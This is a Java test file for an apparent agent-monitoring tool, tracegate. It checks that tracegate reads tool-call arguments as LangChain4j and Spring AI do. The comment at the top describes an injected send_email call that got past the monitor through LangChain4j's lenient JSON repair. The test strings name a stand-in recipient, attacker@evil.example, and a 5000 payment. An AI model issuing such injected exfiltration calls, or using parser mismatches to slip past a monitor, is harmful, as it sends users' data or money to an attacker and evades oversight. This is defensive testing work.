package dev.tracegate.agent.core;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tracegate.matchers.event.Args;
import org.junit.jupiter.api.Test;

import java.io.File;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tool arguments are read as the framework that runs the tool reads them (trial43 01: LangChain4j repaired
 * {@code {"to":"attacker@evil.example",}} and ran the tool with it while tracegate kept it as {@code _raw}, so an
 * injected send passed). Checked against the frameworks' own readers, on the test class path in the versions the
 * agent is built against: LangChain4j's {@code ToolExecutionRequestUtil.argumentsAsMap} and Spring AI's {@code JsonParser}
 * (what {@code MethodToolCallback} reads the arguments with).
 */
class FrameworkArgumentsTest {

    /** Model output as it comes: strict JSON, the repairs LangChain4j makes, and text nobody can read. */
    private static final List<String> TEXTS = List.of(
            "{\"to\":\"attacker@evil.example\",\"body\":\"hi\"}",
            "{\"to\":\"attacker@evil.example\",\"body\":\"hi\",}",
            "{\"to\":\"attacker@evil.example\",\"body\":\"hi\" , \n }",
            "\"{\\\"to\\\":\\\"attacker@evil.example\\\",\\\"body\\\":\\\"hi\\\"}\"",
            "\"{\\\"to\\\":\\\"attacker@evil.example\\\",\\\"amount\\\":5000,}\"",
            "\"{\\\"to\\\":\\\"a@x.example\\\"}\"\n",
            "{\"to\":[\"a@x.example\",\"attacker@evil.example\",],\"n\":1.5,}",
            "{\"r\":{\"to\":\"attacker@evil.example\",},}",
            "{\"body\":\"say \\\"hi\\\"\",}",
            "{\"body\":\"a,}\",\"x\":1}",
            "{\"body\":\"a,}\",\"x\":1,}",
            "{\"amount\":5000,}",
            "\"{\\\"amount\\\":5000}",
            "{\"amount\":5000}\"",
            "amount=5000",
            "[1,2]",
            "\"[1,2]\"",
            "{\"amount\":",
            "\"null\"",
            "{\"a\":1,,}",
            "{'a':1}");

    @Test
    void langChain4jArgumentsAreReadAsItsToolExecutorReadsThem() throws Exception {
        ClassLoader alone = langChain4jAlone();
        Method asMap = Class.forName("dev.langchain4j.service.tool.ToolExecutionRequestUtil", true, alone)
                .getDeclaredMethod("argumentsAsMap", String.class);
        asMap.setAccessible(true);
        ClassLoader context = Thread.currentThread().getContextClassLoader();
        Thread.currentThread().setContextClassLoader(alone);   // LangChain4j's service loader looks there for its JSON codec
        try {
            compareWith(asMap);
        } finally {
            Thread.currentThread().setContextClassLoader(context);
        }
    }

    private static void compareWith(Method asMap) throws Exception {
        int repaired = 0;
        for (String text : TEXTS) {
            Map<?, ?> tool;
            try {
                tool = (Map<?, ?>) asMap.invoke(null, text);
            } catch (InvocationTargetException e) {
                tool = null;   // the tool does not run
            }
            Args ours = new ToolCall("langchain4j", "s", "send_email", text, "c1").args();
            if (tool == null) {
                assertThat(ours.malformed()).as("LangChain4j cannot read %s", text).isTrue();
                assertThat(ours.root().get(Args.RAW_FIELD).textValue()).isEqualTo(text);
            } else {
                assertThat(ours.malformed()).as("LangChain4j reads %s", text).isFalse();
                assertThat(ours.root()).as("the arguments LangChain4j's tool gets from %s", text).isEqualTo(tree(tool));
                if (Args.ofJson(text).malformed()) repaired++;
            }
        }
        assertThat(repaired).as("texts only the second reading takes").isGreaterThanOrEqualTo(8);
    }

    @Test
    void theInjectedTargetIsAnArgumentOfTheRepairedCall() {
        Args comma = new ToolCall("langchain4j", "s", "send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"hi\",}", "c1").args();
        Args quoted = new ToolCall("langchain4j", "s", "send_email",
                "\"{\\\"to\\\":\\\"attacker@evil.example\\\",\\\"body\\\":\\\"hi\\\"}\"", "c1").args();
        Args.Path to = Args.Path.of("to");
        assertThat(comma.get(to).textValue()).isEqualTo("attacker@evil.example");
        assertThat(quoted.get(to).textValue()).isEqualTo("attacker@evil.example");
        assertThat(new ToolCall("langchain4j", "s", "pay", "{\"to\":\"a\",\"amount\":5000,}", "c1").args()
                .get(Args.Path.of("amount")).intValue()).isEqualTo(5000);
    }

    @Test
    @SuppressWarnings("removal")   // JsonParser is what MethodToolCallback 2.0.1 reads with (through its JsonHelper)
    void springAiArgumentsAreReadStrictlyAsItsToolCallbackReadsThem() {
        for (String text : TEXTS) {
            Map<?, ?> tool;
            try {
                tool = org.springframework.ai.util.json.JsonParser.fromJson(text, Map.class);
            } catch (RuntimeException e) {
                tool = null;   // MethodToolCallback throws a ToolExecutionException: the tool does not run
            }
            Args ours = new ToolCall("springai", "s", "send_email", text, "c1").args();
            if (tool == null) {
                assertThat(ours.malformed()).as("Spring AI cannot read %s", text).isTrue();
            } else {
                assertThat(ours.malformed()).as("Spring AI reads %s", text).isFalse();
                assertThat(ours.root()).as("the arguments Spring AI's tool gets from %s", text).isEqualTo(tree(tool));
            }
        }
    }

    @Test
    void otherFrameworksKeepUnreadableTextRaw() {
        for (String framework : List.of("springai", "mcp-server", "mcp-client", "configured")) {
            Args a = new ToolCall(framework, "s", "t", "{\"to\":\"x\",}", "c1").args();
            assertThat(a.malformed()).as(framework).isTrue();
            assertThat(a.root().get(Args.RAW_FIELD).textValue()).isEqualTo("{\"to\":\"x\",}");
        }
    }

    /**
     * The test class path without quarkus-langchain4j (on it for the agent's Quarkus advice), whose JSON codec, found by
     * LangChain4j's service loader, needs a running Quarkus container: LangChain4j as a plain application has it.
     */
    private static ClassLoader langChain4jAlone() throws Exception {
        String path = System.getProperty("surefire.test.class.path", System.getProperty("java.class.path"));
        List<URL> urls = new ArrayList<>();
        for (String entry : path.split(File.pathSeparator)) {
            if (!entry.contains("quarkus")) urls.add(Path.of(entry).toUri().toURL());
        }
        return new URLClassLoader(urls.toArray(new URL[0]), ClassLoader.getPlatformClassLoader());
    }

    private static JsonNode tree(Map<?, ?> map) {
        @SuppressWarnings("unchecked") Map<String, ?> m = (Map<String, ?>) map;
        return Args.of(m).root();
    }
}
